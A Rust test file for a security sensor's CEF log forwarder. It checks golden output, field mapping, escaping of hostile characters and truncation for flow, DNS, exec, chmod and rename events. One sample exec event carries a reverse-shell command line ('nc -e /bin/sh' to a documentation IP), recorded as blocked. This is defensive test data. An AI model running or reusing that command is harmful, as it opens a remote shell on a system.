//! Golden files per signature family, hostile values, and every message read
//! back by the strict CEF parser of the test bed.
//!
//! Regenerate the files after an intended format change with
//! `TAPWIRE_REGENERATE_GOLDEN=1 cargo test -p tapwire-cef-forwarder --test golden`
//! and review the diff.

use std::net::IpAddr;

use tapwire_cef_forwarder::config::{CefConfig, Ipv6Keys, SyslogFormat};
use tapwire_cef_forwarder::format::Formatter;
use tapwire_schemas::events::*;
use tapwire_schemas::samples;
use tapwire_tests::cef::{CefMessage, parse_line};

const TS: i64 = 1_700_000_000_123_456_789;

fn header(seq: u64) -> EventHeader {
    samples::header("node-a", "sensor-1", seq, TS)
}

fn config() -> CefConfig {
    CefConfig {
        cluster_name: Some("prod-eu".into()),
        device_version: "0.1.0".into(),
        ..CefConfig::default()
    }
}

fn runtime(seq: u64, kind: RuntimeKind) -> RuntimeEvent {
    let mut e = samples::file_rename(header(seq));
    e.kind = kind;
    e
}

fn enriched_runtime(e: RuntimeEvent) -> EnrichedEvent {
    EnrichedEvent {
        body: EventBody::Runtime(e),
        src: samples::pod_peer("web-1", "shop"),
        dst: PeerContext::of_kind(PeerKind::None),
    }
}

/// One verdict per golden file.
fn cases() -> Vec<(&'static str, Verdict)> {
    let nt_flow = samples::flow_verdict(header(1), 1);

    let mut accept = samples::l4_flow(header(2), 8); // IPv6 addresses
    accept.kind = L4Kind::NetworkAccept;
    accept.direction = Direction::Ingress;
    accept.duration_ns = None;
    let unresolved = PeerContext::of_kind(PeerKind::Unresolved);
    let fnt_accept = samples::verdict(
        EnrichedEvent {
            body: EventBody::L4(accept),
            src: unresolved,
            dst: samples::pod_peer("db-0", "shop"),
        },
        Mode::Enforce,
        Outcome::Blocked,
    );

    let nt_dns = samples::verdict(
        EnrichedEvent {
            body: EventBody::Dns(samples::dns_resolution(header(3))),
            src: samples::pod_peer("web-1", "shop"),
            dst: PeerContext::of_kind(PeerKind::None),
        },
        Mode::Audit,
        Outcome::Allowed,
    );

    let mut exec = runtime(4, RuntimeKind::ProcessExec);
    exec.binary = "/usr/bin/curl".into();
    exec.command_line = Some("curl -s https://example.com/".into());
    exec.path = None;
    exec.old_path = None;
    let pm_exec = samples::verdict(
        enriched_runtime(exec.clone()),
        Mode::Other,
        Outcome::Allowed,
    );
    exec.binary = "/usr/bin/nc".into();
    exec.command_line = Some("nc -e /bin/sh 203.0.113.9 4444".into());
    let fpm_exec = samples::verdict(enriched_runtime(exec), Mode::Enforce, Outcome::Blocked);

    let mut chmod = runtime(6, RuntimeKind::FileChmod);
    chmod.path = Some("/app/run.sh".into());
    chmod.old_path = None;
    chmod.mode = Some(0o4755);
    let fm_chmod = samples::verdict(enriched_runtime(chmod), Mode::Audit, Outcome::Allowed);

    let mut rename = runtime(7, RuntimeKind::FileRename);
    rename.old_path = Some("/etc/app/db=prod.conf".into());
    rename.path = Some("/etc/app/db=prod.conf.bak|x\\y".into());
    rename.command_line = Some("mv a=b\nc\rd".into());
    let ffm_rename = samples::verdict(enriched_runtime(rename), Mode::Audit, Outcome::Audited);

    vec![
        ("nt_flow_external", nt_flow),
        ("fnt_accept_ipv6_blocked", fnt_accept),
        ("nt_dns_resolution", nt_dns),
        ("pm_exec", pm_exec),
        ("fpm_exec_blocked", fpm_exec),
        ("fm_chmod", fm_chmod),
        ("ffm_rename_audited_hostile", ffm_rename),
    ]
}

fn format(formatter: &Formatter, v: &Verdict) -> String {
    let mut out = Vec::new();
    formatter.format(v, &mut out);
    String::from_utf8(out).expect("UTF-8")
}

fn parse(line: &str) -> CefMessage {
    parse_line(line).unwrap_or_else(|e| panic!("strict parser rejects {line}: {e}"))
}

#[test]
fn golden_files_per_signature_family() {
    let formatter = Formatter::new(&config());
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden");
    let regenerate = std::env::var_os("TAPWIRE_REGENERATE_GOLDEN").is_some();
    for (name, verdict) in cases() {
        let line = format(&formatter, &verdict);
        let path = dir.join(format!("{name}.cef"));
        if regenerate {
            std::fs::create_dir_all(&dir).expect("golden dir");
            std::fs::write(&path, format!("{line}\n")).expect("write golden");
        }
        let want =
            std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(
            line,
            want.trim_end_matches('\n'),
            "{name} differs from its golden file"
        );
        let m = parse(&line);
        assert_eq!(
            m.signature_id, verdict.signature_id,
            "{name}: header id equals the shared table"
        );
        assert_eq!(m.severity, verdict.severity.to_string());
    }
}

#[test]
fn parsed_fields_equal_the_source_event() {
    let formatter = Formatter::new(&config());
    for (name, v) in cases() {
        let m = parse(&format(&formatter, &v));
        let e = &v.event;
        let h = e.header();
        assert_eq!(
            (m.vendor.as_str(), m.product.as_str()),
            ("tapwire", "tapwire"),
            "{name}"
        );
        assert_eq!(
            m.get("rt"),
            Some((h.timestamp_ns / 1_000_000).to_string().as_str()),
            "{name}"
        );
        assert_eq!(m.get("cs2"), Some(h.node.as_str()), "{name}");
        assert_eq!(m.get("cs1"), Some("prod-eu"), "{name}");
        assert_eq!(
            m.get("cs7"),
            h.node_ip.map(|ip| ip.to_string()).as_deref(),
            "{name}"
        );
        assert_eq!(m.get("cs7Label"), Some("Node IP"), "{name}");
        assert_eq!(m.get("externalId"), Some(h.id.to_hex().as_str()), "{name}");
        let mode = match v.mode {
            Mode::Audit => "Audit",
            Mode::Enforce => "Enforce",
            Mode::Other => "Other",
        };
        assert_eq!(m.get("outcome"), Some(mode), "{name}");
        if let EventBody::L4(l4) = &e.body {
            let ip_key =
                |ip: IpAddr, v4: &'static str, v6: &'static str| if ip.is_ipv4() { v4 } else { v6 };
            assert_eq!(
                m.get(ip_key(l4.src.ip.0, "src", "c6a2")),
                Some(l4.src.ip.to_string().as_str()),
                "{name}"
            );
            assert_eq!(
                m.get(ip_key(l4.dst.ip.0, "dst", "c6a3")),
                Some(l4.dst.ip.to_string().as_str()),
                "{name}"
            );
            assert_eq!(
                m.get("spt"),
                Some(l4.src.port.to_string().as_str()),
                "{name}"
            );
            assert_eq!(
                m.get("dpt"),
                Some(l4.dst.port.to_string().as_str()),
                "{name}"
            );
            assert_eq!(m.get("dproc"), Some(l4.binary.as_str()), "{name}");
            let text = |v: Option<u32>| v.map(|v| v.to_string());
            assert_eq!(m.get("spid"), text(l4.ppid).as_deref(), "{name}");
            assert_eq!(m.get("duid"), text(l4.euid).as_deref(), "{name}");
            assert_eq!(m.get("flexString1"), text(l4.egid).as_deref(), "{name}");
            assert_eq!(m.get("cs4"), l4.command_line.as_deref(), "{name}");
            let (act, dir) = match l4.direction {
                Direction::Egress => ("egress", "1"),
                Direction::Ingress => ("ingress", "0"),
                Direction::None => ("", ""),
            };
            assert_eq!(m.get("act"), Some(act), "{name}");
            assert_eq!(m.get("deviceDirection"), Some(dir), "{name}");
        }
        if let EventBody::Dns(d) = &e.body {
            assert_eq!(m.get("dhost"), Some(d.name.as_str()), "{name}");
            assert_eq!(
                m.get("src"),
                d.client.map(|c| c.ip.to_string()).as_deref(),
                "{name}"
            );
            assert_eq!(
                m.get("spt"),
                d.client.map(|c| c.port.to_string()).as_deref(),
                "{name}"
            );
            assert_eq!(
                m.get("dst"),
                d.resolver.map(|r| r.ip.to_string()).as_deref(),
                "{name}"
            );
        }
        if let EventBody::Runtime(r) = &e.body {
            assert_eq!(m.get("dpid"), Some(r.pid.to_string().as_str()), "{name}");
            assert_eq!(m.get("spid"), Some(r.ppid.to_string().as_str()), "{name}");
            assert_eq!(m.get("duid"), Some(r.euid.to_string().as_str()), "{name}");
            assert_eq!(
                m.get("flexString1"),
                Some(r.egid.to_string().as_str()),
                "{name}"
            );
            assert_eq!(m.get("flexString1Label"), Some("EGID"), "{name}");
            assert_eq!(m.get("flexString2"), r.container_id.as_deref(), "{name}");
            // The process name: the executable's file name, as comm keeps it.
            let name15: String = r
                .binary
                .rsplit('/')
                .next()
                .unwrap_or_default()
                .chars()
                .take(15)
                .collect();
            assert_eq!(m.get("dproc"), Some(name15.as_str()), "{name}");
            assert_eq!(m.get("filePath"), r.path.as_deref(), "{name}");
            assert_eq!(m.get("cs4"), r.command_line.as_deref(), "{name}");
            if r.kind == RuntimeKind::FileRename {
                assert_eq!(m.get("oldFilePath"), r.old_path.as_deref(), "{name}");
            }
            if r.kind == RuntimeKind::ProcessExec {
                assert_eq!(m.get("act"), Some("exec"), "{name}");
                assert_eq!(m.get("cn1"), Some(r.pid.to_string().as_str()), "{name}");
            }
            if let Some(mode) = r.mode {
                assert_eq!(
                    m.get("filePermission"),
                    Some(format!("0{mode:03o}").as_str()),
                    "{name}"
                );
            }
            let pod = &e.src;
            assert_eq!(m.get("cs5"), pod.pod.as_deref(), "{name}");
            assert_eq!(m.get("cs3"), pod.namespace.as_deref(), "{name}");
            assert_eq!(m.get("cs6"), pod.container.as_deref(), "{name}");
            assert_eq!(m.get("request"), pod.image.as_deref(), "{name}");
            assert_eq!(m.get("fileHash"), pod.image_digest.as_deref(), "{name}");
        }
    }
}

#[test]
fn hostile_values_round_trip_or_are_cut_on_a_character_boundary() {
    let formatter = Formatter::new(&config());
    let hostile = "pipe| eq= back\\slash cr\r lf\n Zürich ☃ end";
    let mut e = runtime(9, RuntimeKind::FileWrite);
    e.path = Some(hostile.to_owned());
    // 10 KB: beyond filePath's 1023-byte maximum and cs4's 4000.
    let long: String = "é=|\\".repeat(2000);
    e.command_line = Some(long.clone());
    e.binary = "x".repeat(10_000);
    let v = samples::verdict(enriched_runtime(e), Mode::Audit, Outcome::Audited);
    let line = format(&formatter, &v);
    let m = parse(&line);
    assert_eq!(m.get("filePath"), Some(hostile));
    let cs4 = m.get("cs4").expect("cs4");
    assert!(
        cs4.len() <= 4000 && long.starts_with(cs4),
        "cs4 is a prefix of at most 4000 bytes"
    );
    assert!(
        cs4.len() > 3990,
        "cut at the last boundary, not earlier: {}",
        cs4.len()
    );
    assert_eq!(m.get("dproc").map(str::len), Some(15), "a process name");

    // Header fields escape differently from extension values.
    let formatter = Formatter::new(&CefConfig {
        device_vendor: "ven|dor\\x=y".into(),
        ..config()
    });
    let m = parse(&format(&formatter, &v));
    assert_eq!(m.vendor, "ven|dor\\x=y");
}

#[test]
fn ipv6_can_go_to_src_and_dst_and_rfc5424_headers_parse() {
    let formatter = Formatter::new(&CefConfig {
        ipv6: Ipv6Keys::SrcDst,
        syslog_format: SyslogFormat::Rfc5424,
        ..config()
    });
    let v = samples::flow_verdict(header(8), 8);
    let line = format(&formatter, &v);
    assert!(
        line.starts_with("<166>1 2023-11-14T22:13:20.123Z node-a tapwire - - - CEF:0|"),
        "{line}"
    );
    let m = parse(&line);
    let EventBody::L4(l4) = &v.event.body else {
        panic!("a flow verdict holds an L4 event")
    };
    assert_eq!(m.get("src"), Some(l4.src.ip.to_string().as_str()));
    assert_eq!(m.get("c6a2"), None);
}

#[test]
fn the_node_ip_can_move_to_the_standard_dvc_key() {
    let formatter = Formatter::new(&CefConfig {
        node_ip_key: tapwire_cef_forwarder::config::NodeIpKey::Dvc,
        ..config()
    });
    let m = parse(&format(&formatter, &samples::flow_verdict(header(1), 1)));
    assert_eq!(m.get("dvc"), Some("192.168.10.11"));
    assert_eq!(m.get("cs7"), None);
}
